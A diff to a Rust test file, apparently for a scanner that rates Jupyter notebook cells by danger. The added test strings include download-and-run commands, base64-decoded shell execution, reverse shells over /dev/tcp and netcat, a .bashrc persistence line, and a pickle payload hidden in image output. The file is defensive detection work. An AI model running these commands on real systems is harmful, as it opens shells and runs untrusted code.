@@ -35,6 +35,12 @@ fn what_cells_hand_to_a_shell_is_judged() {
         ("!echo aGk= | base64 -d | bash", Severity::Critical),
         ("!wget http://x/y && chmod +x y && ./y", Severity::Critical),
         ("!bash -i >& /dev/tcp/1.2.3.4/99 0>&1", Severity::Critical),
+        ("!curl host/x -o y; bash y", Severity::Critical),
+        ("%%writefile /root/.bashrc\ncurl http://x/y | sh", Severity::High),
+        ("!base64 -d x > y; sh y", Severity::Critical),
+        ("!echo aGk= | base64 -d > y\n!sh y", Severity::Medium),
+        ("!mkfifo /tmp/f; nc 1.2.3.4 9 < /tmp/f", Severity::Critical),
+        ("!sh -c \"$(echo aGk= | base64 -d)\"", Severity::Critical),
         ("%%bash\ncurl http://x/y | sh", Severity::Critical),
         ("%%script bash\ncurl http://x/y -o y\nbash y", Severity::Critical),
         ("get_ipython().system('curl http://x/y | sh')", Severity::Critical),
@@ -89,6 +95,9 @@ fn outputs_that_a_browser_runs_are_told() {
     assert_eq!(worst(&[cell("markdown", "<img src=x onerror='alert(1)'>", "")]), active);
     assert_eq!(worst(&[cell("code", "%%javascript\nalert(1)", "")]), active);
     let calls = lazaret_input::base64::encode(b"\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R.");
+    let behind = [&[7; 20][..], b"\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R."].concat();
+    let behind = worst(&[shown("image/png", &lazaret_input::base64::encode(&behind))]);
+    assert_eq!(behind.map(|(_, severity)| severity), Some(Severity::Critical));
     assert_eq!(worst(&[shown("image/png", &calls)]).map(|(_, severity)| severity), Some(Severity::Critical));
 }
 
